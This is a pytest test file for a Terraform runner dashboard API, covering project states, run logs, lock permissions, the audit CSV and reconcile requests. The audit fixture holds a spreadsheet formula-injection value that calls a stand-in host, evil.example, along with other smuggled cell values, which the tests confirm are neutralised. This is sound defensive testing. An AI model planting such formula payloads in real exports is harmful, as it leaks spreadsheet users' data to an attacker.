"""`/api/v1/`: projects with their sync state, runs, logs (live too), locks, the audit.

Every test reads real rows of a real store (SQLite, and PostgreSQL where marked),
written through the store's own API as the engine writes them, through an app that
requires sign-in: the bootstrap operator token, or a stored viewer token.
"""

from __future__ import annotations

import csv
import io
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient

from runner.results.drift import Correction, DriftStatus
from runner.results.model import ResourceChange
from runner.store.runs import RunStatus, Trigger
from runner.store.store import Store
from tests.support.auth import TEST_API_TOKEN, bearer, issue_token
from tests.support.dashboard import (
    REPO,
    dashboard_app,
    lock_project,
    record_drift,
    record_plan,
    record_run,
)

SECRET_TOKEN = "ghp_thisIsTheRunnersOwnGitHubToken0123"


@pytest.fixture
def data_dir(tmp_path: Path) -> Path:
    return tmp_path / "data"


@pytest.fixture
def app(store: Store, data_dir: Path) -> Flask:
    return dashboard_app(store, data_dir, github_token=SECRET_TOKEN)


@pytest.fixture
def operator(app: Flask) -> FlaskClient:
    client = app.test_client()
    client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {TEST_API_TOKEN}"
    return client


@pytest.fixture
def viewer(app: Flask, store: Store) -> FlaskClient:
    client = app.test_client()
    client.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {issue_token(store, 'viewer')}"
    return client


def by_project(items: list[dict]) -> dict[str, dict]:
    return {item["project"]: item for item in items}


# --- projects -------------------------------------------------------------------------------


def test_every_project_shows_the_state_its_records_say(
    store: Store, data_dir: Path, viewer: FlaskClient
) -> None:
    record_drift(store, "calm", DriftStatus.IN_SYNC)
    record_drift(store, "edited", DriftStatus.DRIFT, drifted=("files_file.f",))
    record_drift(store, "broken", DriftStatus.ERROR)
    record_drift(store, "refused", DriftStatus.DRIFT, correction=Correction.NEEDS_APPROVAL)
    record_drift(store, "held", DriftStatus.IN_SYNC)
    lock_project(store, "held", pr=9)
    record_run(store, data_dir, project="failing", command="apply", status=RunStatus.FAILED)
    record_run(store, data_dir, project="busy", status=RunStatus.RUNNING)
    # A PR's failed plan is the PR's problem, not the project's: still in sync.
    record_drift(store, "pr-broke", DriftStatus.IN_SYNC)
    record_run(store, data_dir, project="pr-broke", status=RunStatus.FAILED)

    answer = viewer.get("/api/v1/projects")

    assert answer.status_code == 200
    states = {name: item["state"] for name, item in by_project(answer.json["items"]).items()}
    assert states == {
        "calm": "in_sync",
        "edited": "drifted",
        "broken": "error",
        "refused": "needs_attention",
        "held": "locked",
        "failing": "error",
        "busy": "pending",
        "pr-broke": "in_sync",
    }
    held = by_project(answer.json["items"])["held"]
    assert held["lock"]["owner_pr"] == 9
    assert held["reason"] == "locked by #9"
    assert by_project(answer.json["items"])["edited"]["drift"]["drifted"] == ["files_file.f"]
    assert answer.json["counts"]["in_sync"] == 2
    assert answer.json["counts"]["error"] == 2

    only = viewer.get("/api/v1/projects?state=drifted").json["items"]
    assert [item["project"] for item in only] == ["edited"]


def test_projects_are_paged_with_a_cursor_and_no_project_twice(
    store: Store, viewer: FlaskClient
) -> None:
    for index in range(5):
        record_drift(store, f"p{index}", DriftStatus.IN_SYNC)

    seen: list[str] = []
    cursor = ""
    while True:
        page = viewer.get(f"/api/v1/projects?limit=2&cursor={cursor}").json
        seen += [item["project"] for item in page["items"]]
        if page["next_cursor"] is None:
            break
        cursor = page["next_cursor"]

    assert seen == ["p0", "p1", "p2", "p3", "p4"]


def test_a_project_page_has_its_drift_history_and_runs(
    store: Store, data_dir: Path, viewer: FlaskClient
) -> None:
    record_drift(store, "app", DriftStatus.IN_SYNC)
    record_drift(store, "app", DriftStatus.DRIFT, drifted=("files_file.f",))
    record_drift(store, "other", DriftStatus.IN_SYNC)
    run_id = record_run(store, data_dir, project="app")

    answer = viewer.get(f"/api/v1/project?repo={REPO}&dir=app&workspace=default")

    assert answer.status_code == 200
    body = answer.json
    assert body["project"]["state"] == "drifted"
    assert [r["status"] for r in body["drift_history"]] == ["drift", "in_sync"]
    assert [r["id"] for r in body["runs"]] == [run_id]
    missing = viewer.get(f"/api/v1/project?repo={REPO}&dir=nope")
    assert missing.status_code == 404
    assert "no project" in missing.json["error"]


# --- runs -----------------------------------------------------------------------------------


def test_runs_are_filtered_and_paged_stably_while_new_runs_start(
    store: Store, data_dir: Path, viewer: FlaskClient
) -> None:
    ids = [record_run(store, data_dir, author=f"user{i % 2}") for i in range(5)]
    failed = record_run(store, data_dir, status=RunStatus.FAILED, trigger=Trigger.COMMENT)

    first = viewer.get("/api/v1/runs?limit=2&author=user0").json
    record_run(store, data_dir, author="user0")  # a new run must not shift the next page
    second = viewer.get(f"/api/v1/runs?limit=2&author=user0&cursor={first['next_cursor']}").json

    assert [r["id"] for r in first["items"]] == [ids[4], ids[2]]
    assert [r["id"] for r in second["items"]] == [ids[0]]
    assert second["next_cursor"] is None
    by_status = viewer.get("/api/v1/runs?status=failed&trigger=comment").json["items"]
    assert [r["id"] for r in by_status] == [failed]
    assert by_status[0]["author"] == "alice"
    assert by_status[0]["pr_number"] == 7


def test_a_run_shows_its_plan(store: Store, data_dir: Path, viewer: FlaskClient) -> None:
    run_id = record_run(store, data_dir)
    record_plan(store, run_id, [ResourceChange("terraform_data.x", ("create",))])

    body = viewer.get(f"/api/v1/runs/{run_id}").json

    assert body["summary"]["add"] == 1
    assert body["plans"][0]["changes"] == [{"address": "terraform_data.x", "actions": ["create"]}]
    assert body["log_url"] is None
    assert viewer.get("/api/v1/runs/999999").status_code == 404


@pytest.mark.parametrize(
    ("query", "field"),
    [("limit=0", "limit"), ("limit=9999", "limit"), ("cursor=abc", "cursor"),
     ("status=exploded", "status"), ("pr=-1", "pr"), ("colour=red", "colour")],
)  # fmt: skip
def test_a_bad_parameter_is_a_400_that_names_it(
    viewer: FlaskClient, query: str, field: str
) -> None:
    answer = viewer.get(f"/api/v1/runs?{query}")

    assert answer.status_code == 400
    assert answer.json["error"].startswith(f"{field}:")


# --- logs -----------------------------------------------------------------------------------


def test_a_run_log_is_served_masked(store: Store, data_dir: Path, viewer: FlaskClient) -> None:
    run_id = record_run(store, data_dir, log=f"Plan: 1 to add\nurl with {SECRET_TOKEN}\n")

    text = viewer.get(f"/api/v1/runs/{run_id}/log").get_data(as_text=True)

    assert "Plan: 1 to add" in text
    assert SECRET_TOKEN not in text
    assert "(sensitive value)" in text


def test_a_log_path_outside_the_data_dir_is_never_read(
    store: Store, data_dir: Path, tmp_path: Path, viewer: FlaskClient
) -> None:
    outside = tmp_path / "not-a-log.txt"
    outside.write_text("private")
    run_id = store.runs.start(
        repo=REPO, project="app", dir="app", workspace="default", command="plan",
        trigger="autoplan", log_path=str(outside),
    )  # fmt: skip

    assert viewer.get(f"/api/v1/runs/{run_id}/log").status_code == 404
    stream = viewer.get(f"/api/v1/runs/{run_id}/log/stream", buffered=False)
    store.runs.finish(run_id, RunStatus.SUCCESS)
    assert "private" not in stream.get_data(as_text=True)


def sse_events(text: str) -> list[tuple[str, str, str | None]]:
    """(event, data, id) of every event in an SSE body."""
    events = []
    for block in text.split("\n\n"):
        fields: dict[str, list[str]] = {}
        for line in block.splitlines():
            name, _, value = line.partition(": ")
            fields.setdefault(name, []).append(value)
        if "event" in fields:
            events.append(
                (fields["event"][0], "\n".join(fields["data"]), fields.get("id", [None])[0])
            )
    return events


def test_the_log_stream_follows_a_running_run_until_it_ends(
    store: Store, data_dir: Path, viewer: FlaskClient
) -> None:
    run_id = record_run(store, data_dir, status=RunStatus.RUNNING, log="Initializing...\n")
    log_path = Path(store.runs.get_run(run_id).log_path)  # type: ignore[union-attr, arg-type]

    def terraform_goes_on() -> None:
        time.sleep(0.5)
        with log_path.open("a") as log:
            log.write(f"token {SECRET_TOKEN}\n")
            log.flush()
            time.sleep(0.3)
            log.write("Plan: 1 to add, 0 to change, 0 to destroy.\n")
        store.runs.finish(run_id, RunStatus.SUCCESS)

    writer = threading.Thread(target=terraform_goes_on)
    writer.start()
    response = viewer.get(f"/api/v1/runs/{run_id}/log/stream", buffered=False)
    body = b"".join(response.response).decode()  # type: ignore[arg-type]
    writer.join()

    events = sse_events(body)
    logs = "\n".join(data for name, data, _ in events if name == "log")
    assert response.mimetype == "text/event-stream"
    assert logs.index("Initializing...") < logs.index("Plan: 1 to add")
    assert SECRET_TOKEN not in body
    assert events[-1][:2] == ("end", "success")


def test_a_reconnecting_stream_continues_after_the_last_event_id(
    store: Store, data_dir: Path, viewer: FlaskClient
) -> None:
    run_id = record_run(store, data_dir, log="first line\nsecond line\n")
    whole = sse_events(viewer.get(f"/api/v1/runs/{run_id}/log/stream").get_data(as_text=True))
    first_id = whole[0][2]
    assert first_id == str(len("first line\nsecond line\n"))

    again = viewer.get(
        f"/api/v1/runs/{run_id}/log/stream", headers={"Last-Event-ID": str(len("first line\n"))}
    )
    events = sse_events(again.get_data(as_text=True))
    assert events[0][:2] == ("log", "second line")
    assert events[-1][:2] == ("end", "success")


def test_too_many_open_streams_are_refused_not_queued(
    store: Store, data_dir: Path, viewer: FlaskClient
) -> None:
    run_id = record_run(store, data_dir, status=RunStatus.RUNNING, log="waiting\n")
    open_streams = [
        viewer.get(f"/api/v1/runs/{run_id}/log/stream", buffered=False) for _ in range(4)
    ]

    refused = viewer.get(f"/api/v1/runs/{run_id}/log/stream")

    assert all(stream.status_code == 200 for stream in open_streams)
    assert refused.status_code == 503
    assert refused.headers["Retry-After"] == "5"
    for stream in open_streams:
        stream.close()  # the slots come back when the server closes them
    store.runs.finish(run_id, RunStatus.SUCCESS)
    assert viewer.get(f"/api/v1/runs/{run_id}/log/stream").status_code == 200


# --- locks ----------------------------------------------------------------------------------


def test_an_operator_unlocks_a_project(store: Store, operator: FlaskClient) -> None:
    lock_project(store, "app", pr=9)

    assert operator.get("/api/v1/locks").json["items"][0]["owner_pr"] == 9
    answer = operator.post(
        "/api/v1/locks/unlock", json={"repo": REPO, "dir": "app", "workspace": "default"}
    )

    assert answer.status_code == 200
    assert answer.json["released"] is True
    assert answer.json["lock"]["owner_pr"] == 9
    assert store.locks.list() == []
    again = operator.post("/api/v1/locks/unlock", json={"repo": REPO, "dir": "app"})
    assert again.json == {"released": False, "lock": None}


def test_a_viewer_cannot_unlock(store: Store, viewer: FlaskClient) -> None:
    lock_project(store, "app", pr=9)

    answer = viewer.post("/api/v1/locks/unlock", json={"repo": REPO, "dir": "app"})

    assert answer.status_code == 403
    assert len(store.locks.list()) == 1


def test_nobody_unlocks_without_signing_in(app: Flask, store: Store) -> None:
    lock_project(store, "app", pr=9)
    client = app.test_client()

    anonymous = client.post("/api/v1/locks/unlock", json={"repo": REPO, "dir": "app"})
    guessed = client.post(
        "/api/v1/locks/unlock", json={"repo": REPO, "dir": "app"}, headers=bearer("guess")
    )

    assert (anonymous.status_code, guessed.status_code) == (401, 401)
    assert len(store.locks.list()) == 1


def test_an_action_body_must_be_json_with_known_fields(store: Store, operator: FlaskClient) -> None:
    lock_project(store, "app", pr=9)

    form = operator.post("/api/v1/locks/unlock", data={"repo": REPO, "dir": "app"})
    typo = operator.post("/api/v1/locks/unlock", json={"repo": REPO, "dri": "app"})

    assert form.status_code == 415
    assert typo.status_code == 400
    assert "dri" in typo.json["error"]
    assert len(store.locks.list()) == 1


def test_drift_scans_need_an_operator_and_a_scanner(
    store: Store, data_dir: Path, viewer: FlaskClient, operator: FlaskClient
) -> None:
    assert viewer.post("/api/v1/drift/scans", json={}).status_code == 403
    answer = operator.post("/api/v1/drift/scans", json={})
    assert answer.status_code == 503
    assert "not available" in answer.json["error"]


# --- audit ----------------------------------------------------------------------------------


@pytest.fixture
def applies(store: Store, data_dir: Path) -> Iterator[list[int]]:
    record_run(store, data_dir, project="app", command="plan")
    first = record_run(store, data_dir, project="app", command="apply", trigger=Trigger.MERGE)
    attack = record_run(
        store,
        data_dir,
        project='=HYPERLINK("https://evil.example/"&A1)',
        command="apply",
        author="@mallory",
        status=RunStatus.FAILED,
        error="-2+3",
    )
    yield [attack, first]


def test_the_audit_lists_every_apply_and_nothing_else(
    viewer: FlaskClient, applies: list[int]
) -> None:
    body = viewer.get("/api/v1/audit").json

    assert [run["id"] for run in body["items"]] == applies
    assert {run["command"] for run in body["items"]} == {"apply"}


def test_the_audit_csv_defuses_formulas_from_pull_requests(
    viewer: FlaskClient, applies: list[int]
) -> None:
    answer = viewer.get("/api/v1/audit.csv")

    assert answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert [int(row["run"]) for row in rows] == applies
    attack = rows[0]
    assert attack["project"] == '\'=HYPERLINK("https://evil.example/"&A1)'
    assert attack["who"] == "'@mallory"
    assert attack["error"] == "'-2+3"
    assert rows[1]["who"] == "alice"
    assert rows[1]["trigger"] == "merge"
    assert rows[1]["pr"] == "7"


# --- compatibility --------------------------------------------------------------------------


def test_the_older_api_routes_still_answer(
    store: Store, data_dir: Path, viewer: FlaskClient
) -> None:
    run_id = record_run(store, data_dir)

    assert viewer.get("/api/runs").json["runs"][0]["id"] == run_id
    assert viewer.get(f"/api/runs/{run_id}").status_code == 200
    assert viewer.get("/api/locks").status_code == 200


# --- reconcile ------------------------------------------------------------------------------

RECONCILED = "https://github.com/acme/infra.git"


def test_an_operator_queues_a_reconcile_of_a_reconciled_repository(
    store: Store, data_dir: Path
) -> None:
    submitted: list[object] = []

    def submit(event: object, *, delivery: object = None) -> int:
        submitted.append(event)
        return 41 + len(submitted)

    repos = [{"url": RECONCILED, "poll_interval": 60}, {"url": "https://github.com/acme/other"}]
    app = dashboard_app(store, data_dir, submit=submit, repos=repos)
    operator = app.test_client()
    operator.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {TEST_API_TOKEN}"
    viewer = app.test_client()
    viewer.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {issue_token(store, 'viewer')}"

    by_name = operator.post("/api/v1/reconcile", json={"repo": "acme/infra"})
    by_key = operator.post("/api/v1/reconcile", json={"repo": "github.com/acme/infra"})
    refused = [
        viewer.post("/api/v1/reconcile", json={"repo": RECONCILED}),
        # Scanned for drift but not reconciled, and a URL nobody configured: never applied.
        operator.post("/api/v1/reconcile", json={"repo": "https://github.com/acme/other"}),
        operator.post("/api/v1/reconcile", json={"repo": "file:///tmp/evil"}),
    ]

    assert (by_name.status_code, by_name.json) == (202, {"repo": RECONCILED, "job": 42})
    assert by_key.status_code == 202
    assert [answer.status_code for answer in refused] == [403, 404, 404]
    assert [(job.repo, job.trigger) for job in submitted] == [(RECONCILED, "poll")] * 2  # type: ignore[attr-defined]
